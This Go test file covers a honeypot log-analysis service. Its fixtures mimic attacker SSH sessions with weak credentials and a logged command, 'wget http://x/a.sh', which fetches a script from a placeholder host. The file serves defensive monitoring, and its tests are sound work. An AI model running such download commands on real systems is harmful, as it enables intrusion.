package analysis

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"testing"
	"time"

	"github.com/Riesling1623/honeydash/internal/entity"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/mock"
	"github.com/stretchr/testify/require"
)

// =============================================================================
// Mocks
// =============================================================================

type MockReportSource struct {
	mock.Mock
}

func (m *MockReportSource) Report(ctx context.Context, day time.Time) (*entity.DailyReport, error) {
	args := m.Called(ctx, day.Format(dayLayout))
	if args.Get(0) == nil {
		return nil, args.Error(1)
	}
	return args.Get(0).(*entity.DailyReport), args.Error(1)
}

func (m *MockReportSource) AvailableDates(ctx context.Context) ([]string, error) {
	args := m.Called(ctx)
	if args.Get(0) == nil {
		return nil, args.Error(1)
	}
	return args.Get(0).([]string), args.Error(1)
}

func (m *MockReportSource) Default(ctx context.Context) (json.RawMessage, error) {
	args := m.Called(ctx)
	if args.Get(0) == nil {
		return nil, args.Error(1)
	}
	return args.Get(0).(json.RawMessage), args.Error(1)
}

type MockGeoLocator struct {
	mock.Mock
}

func (m *MockGeoLocator) LookupBatch(ctx context.Context, ips []string) map[string]*entity.GeoLocation {
	args := m.Called(ctx, ips)
	return args.Get(0).(map[string]*entity.GeoLocation)
}

// =============================================================================
// Helpers
// =============================================================================

func testLogger() *slog.Logger {
	return slog.New(slog.NewTextHandler(io.Discard, nil))
}

func strPtr(s string) *string { return &s }
func intPtr(i int) *int       { return &i }

func notFound(day string) error {
	return fmt.Errorf("report %s: %w", day, entity.ErrReportNotFound)
}

func detail(id, ip, ts, user, pass, status string, commands ...string) entity.SessionDetail {
	return entity.SessionDetail{
		ID:        id,
		IP:        ip,
		Timestamp: ts,
		Login:     entity.SessionLogin{Username: user, Password: pass, Status: status},
		Commands:  commands,
	}
}

func dayOne() *entity.DailyReport {
	return &entity.DailyReport{
		Statistics: entity.ReportStatistics{TotalSessions: 3, UniqueIPs: 2},
		TopIPs: []entity.IPCount{
			{IP: "203.0.113.7", Count: 2},
			{IP: "198.51.100.4", Count: 1},
		},
		DangerousCommands: []entity.CommandCount{
			{Command: strPtr("wget http://x/a.sh"), Count: intPtr(2)},
			{Command: strPtr("broken"), Count: nil},
		},
		SessionDetails: entity.SessionDetailsList{
			detail("s1", "203.0.113.7", "2024-01-01T03:15:00Z", "root", "123456", "failed", "uname -a", "wget http://x/a.sh"),
			detail("s2", "203.0.113.7", "2024-01-01T03:45:00Z", "admin", "admin", "success", "ls"),
			detail("s3", "198.51.100.4", "2024-01-01T22:00:00Z", "root", "", "failure"),
		},
	}
}

func dayThree() *entity.DailyReport {
	return &entity.DailyReport{
		Statistics: entity.ReportStatistics{TotalSessions: 1, UniqueIPs: 1},
		TopIPs: []entity.IPCount{
			{IP: "203.0.113.7", Count: 1},
		},
		DangerousCommands: []entity.CommandCount{
			{Command: strPtr("wget http://x/a.sh"), Count: intPtr(1)},
		},
		SessionDetails: entity.SessionDetailsList{
			detail("s4", "203.0.113.7", "2024-01-03T10:00:00+02:00", "pi", "p@ss!", "weird"),
		},
	}
}

func threeDaySource() *MockReportSource {
	src := new(MockReportSource)
	src.On("Report", mock.Anything, "20240101").Return(dayOne(), nil)
	src.On("Report", mock.Anything, "20240102").Return(nil, notFound("20240102"))
	src.On("Report", mock.Anything, "20240103").Return(dayThree(), nil)
	return src
}

// =============================================================================
// Analyze
// =============================================================================

func TestAnalyze_MergesDays(t *testing.T) {
	src := threeDaySource()
	svc := NewService(src, nil, Options{}, testLogger())

	ds, err := svc.Analyze(context.Background(), "20240101", "20240103")
	require.NoError(t, err)

	assert.Equal(t, 4, ds.Statistics.TotalSessions)
	assert.Equal(t, 2, ds.Statistics.UniqueIPs)
	assert.Equal(t, 3, ds.Statistics.TotalCommands)

	assert.Equal(t, map[string]int{"203.0.113.7": 3, "198.51.100.4": 1}, ds.TopIPs)
	assert.Equal(t, map[string]int{"wget http://x/a.sh": 3}, ds.DangerousCommands)
	assert.Equal(t, map[string]int{"2024-01-01": 3, "2024-01-02": 0, "2024-01-03": 1}, ds.DailySessions)
	assert.Equal(t, map[string]int{"root": 2, "admin": 1, "pi": 1}, ds.TopUsernames)
	assert.Equal(t, map[string]int{"root": 2}, ds.FailedLogins)
	assert.Equal(t, map[string]int{"admin": 1}, ds.SuccessfulLogins)

	require.Len(t, ds.Sessions, 4)
	ids := []string{ds.Sessions[0].SessionID, ds.Sessions[1].SessionID, ds.Sessions[2].SessionID, ds.Sessions[3].SessionID}
	assert.Equal(t, []string{"s1", "s2", "s3", "s4"}, ids)
	assert.Equal(t, entity.LoginUnknown, ds.Sessions[3].LoginStatus)
	assert.Nil(t, ds.GeoData)

	src.AssertExpectations(t)
}

func TestAnalyze_NoReports(t *testing.T) {
	src := new(MockReportSource)
	src.On("Report", mock.Anything, mock.Anything).Return(nil, entity.ErrReportNotFound)
	svc := NewService(src, nil, Options{}, testLogger())

	ds, err := svc.Analyze(context.Background(), "20240105", "20240106")
	require.NoError(t, err)

	assert.NotNil(t, ds.Sessions)
	assert.Empty(t, ds.Sessions)
	assert.Equal(t, 0, ds.Statistics.TotalSessions)
	assert.Equal(t, map[string]int{"2024-01-05": 0, "2024-01-06": 0}, ds.DailySessions)
	assert.Empty(t, ds.PasswordAnalysis.TopPasswords)
}

func TestAnalyze_UnreadableReportIsSkipped(t *testing.T) {
	src := new(MockReportSource)
	src.On("Report", mock.Anything, "20240101").Return(nil, fmt.Errorf("unexpected end of JSON input"))
	src.On("Report", mock.Anything, "20240102").Return(dayThree(), nil)
	svc := NewService(src, nil, Options{}, testLogger())

	ds, err := svc.Analyze(context.Background(), "20240101", "20240102")
	require.NoError(t, err)
	assert.Equal(t, 1, ds.Statistics.TotalSessions)
	assert.Equal(t, 0, ds.DailySessions["2024-01-01"])
}

func TestAnalyze_InvalidInput(t *testing.T) {
	svc := NewService(new(MockReportSource), nil, Options{MaxRangeDays: 31}, testLogger())

	tests := []struct {
		name  string
		start string
		end   string
		want  error
	}{
		{"bad start", "2024-01-01", "20240102", ErrInvalidDate},
		{"bad end", "20240101", "202401", ErrInvalidDate},
		{"impossible date", "20240230", "20240301", ErrInvalidDate},
		{"reversed", "20240110", "20240101", ErrInvalidRange},
		{"too long", "20240101", "20240301", ErrInvalidRange},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := svc.Analyze(context.Background(), tt.start, tt.end)
			assert.ErrorIs(t, err, tt.want)
		})
	}
}

func TestAnalyze_GeoLookup(t *testing.T) {
	src := threeDaySource()
	geo := new(MockGeoLocator)
	lat, lon := 52.52, 13.40
	located := map[string]*entity.GeoLocation{
		"203.0.113.7": {Country: "Germany", CountryCode: "DE", City: "Berlin", Latitude: &lat, Longitude: &lon},
	}
	geo.On("LookupBatch", mock.Anything, []string{"203.0.113.7", "198.51.100.4"}).Return(located)

	svc := NewService(src, geo, Options{}, testLogger())
	ds, err := svc.Analyze(context.Background(), "20240101", "20240103")
	require.NoError(t, err)

	assert.Equal(t, located, ds.GeoData)
	geo.AssertExpectations(t)
}

func TestAnalyze_ContextCancelled(t *testing.T) {
	svc := NewService(new(MockReportSource), nil, Options{}, testLogger())
	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	_, err := svc.Analyze(ctx, "20240101", "20240103")
	assert.ErrorIs(t, err, context.Canceled)
}

// =============================================================================
// Password and timing analysis
// =============================================================================

func TestAnalyzePasswords(t *testing.T) {
	sessions := []entity.Session{
		{Password: "123456"},
		{Password: "123456"},
		{Password: "admin"},
		{Password: "admin123"},
		{Password: "p@ss!"},
		{Password: "a b"},
		{Password: ""},
		{Password: "Root"},
	}

	pa := analyzePasswords(sessions)

	assert.Equal(t, entity.PasswordPatterns{
		NumericOnly:  2,
		AlphaOnly:    2,
		Alphanumeric: 1,
		SpecialChars: 1,
		Empty:        1,
		CommonWeak:   4,
	}, pa.PatternDistribution)
	assert.Equal(t, map[int]int{6: 2, 5: 2, 8: 1, 3: 1, 4: 1}, pa.LengthDistribution)

	require.NotEmpty(t, pa.TopPasswords)
	assert.Equal(t, entity.PasswordCount{Password: "123456", Count: 2}, pa.TopPasswords[0])
	assert.Equal(t, "admin", pa.TopPasswords[1].Password)
}

func TestAnalyzePasswords_TopLimit(t *testing.T) {
	var sessions []entity.Session
	for i := 0; i < 30; i++ {
		sessions = append(sessions, entity.Session{Password: fmt.Sprintf("pw%02d", i)})
	}
	pa := analyzePasswords(sessions)
	assert.Len(t, pa.TopPasswords, topPasswordsLimit)
	assert.Equal(t, "pw00", pa.TopPasswords[0].Password)
}

func TestAnalyzeTiming(t *testing.T) {
	sessions := []entity.Session{
		{Timestamp: "2024-01-01T03:15:00Z"},      // Monday
		{Timestamp: "2024-01-01T03:45:00"},       // Monday, no offset
		{Timestamp: "2024-01-07T23:30:00+02:00"}, // Sunday in its own offset
		{Timestamp: "yesterday"},
		{Timestamp: ""},
	}

	at := analyzeTiming(sessions, testLogger())

	assert.Equal(t, map[int]int{3: 2, 23: 1}, at.HourlyDistribution)
	assert.Equal(t, map[int]int{0: 2, 6: 1}, at.DailyDistribution)
	assert.Equal(t, map[string]int{"2024-01-01": 2}, at.TimelineHeatmap[3])
	assert.Equal(t, map[string]int{"2024-01-07": 1}, at.TimelineHeatmap[23])
}

func TestIsWeakPassword(t *testing.T) {
	assert.True(t, IsWeakPassword("ROOT"))
	assert.True(t, IsWeakPassword("toor"))
	assert.False(t, IsWeakPassword("correct horse"))
}

// =============================================================================
// Dates, default document and session lookup
// =============================================================================

func TestAvailableDates(t *testing.T) {
	src := new(MockReportSource)
	src.On("AvailableDates", mock.Anything).Return(nil, nil).Once()
	svc := NewService(src, nil, Options{}, testLogger())

	dates, err := svc.AvailableDates(context.Background())
	require.NoError(t, err)
	assert.Equal(t, []string{}, dates)
}

func TestDefaultAnalysis(t *testing.T) {
	t.Run("present", func(t *testing.T) {
		src := new(MockReportSource)
		src.On("Default", mock.Anything).Return(json.RawMessage(`{"sessions":[]}`), nil)
		svc := NewService(src, nil, Options{}, testLogger())

		doc, err := svc.DefaultAnalysis(context.Background())
		require.NoError(t, err)
		assert.JSONEq(t, `{"sessions":[]}`, string(doc))
	})

	t.Run("missing", func(t *testing.T) {
		src := new(MockReportSource)
		src.On("Default", mock.Anything).Return(nil, entity.ErrReportNotFound)
		svc := NewService(src, nil, Options{}, testLogger())

		_, err := svc.DefaultAnalysis(context.Background())
		assert.ErrorIs(t, err, ErrNoData)
	})
}

func TestFindSession(t *testing.T) {
	t.Run("within range", func(t *testing.T) {
		svc := NewService(threeDaySource(), nil, Options{}, testLogger())

		s, err := svc.FindSession(context.Background(), "s4", "20240101", "20240103")
		require.NoError(t, err)
		assert.Equal(t, "pi", s.Username)
		assert.Equal(t, []string{}, s.Commands)
	})

	t.Run("across available dates", func(t *testing.T) {
		src := threeDaySource()
		src.On("AvailableDates", mock.Anything).Return([]string{"20240101", "20240103"}, nil)
		svc := NewService(src, nil, Options{}, testLogger())

		s, err := svc.FindSession(context.Background(), "s2", "", "")
		require.NoError(t, err)
		assert.Equal(t, "203.0.113.7", s.IPAddress)
	})

	t.Run("unknown id", func(t *testing.T) {
		svc := NewService(threeDaySource(), nil, Options{}, testLogger())

		_, err := svc.FindSession(context.Background(), "nope", "20240101", "20240103")
		assert.ErrorIs(t, err, ErrSessionNotFound)
	})
}
